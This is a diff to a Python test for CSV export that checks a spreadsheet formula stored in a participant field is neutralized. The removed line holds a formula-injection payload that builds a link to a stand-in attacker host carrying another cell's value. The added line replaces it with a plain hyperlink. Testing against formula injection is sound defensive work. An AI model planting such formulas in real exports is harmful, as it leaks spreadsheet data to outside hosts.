@@ -86,7 +86,7 @@ class ExportTests(BaseTestCase):
         assert (log.what, log.via, log.rows, log.user) == ("csv", "cli", 48, None)
 
     def test_a_cell_a_spreadsheet_would_run_is_neutralized_and_reads_back(self) -> None:
-        formula = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+        formula = '=HYPERLINK("http://x.example","open")'  # site holds 40
         Participant.objects.filter(study_id=self.source["participant_id"].iloc[0]).update(
             site=formula
         )
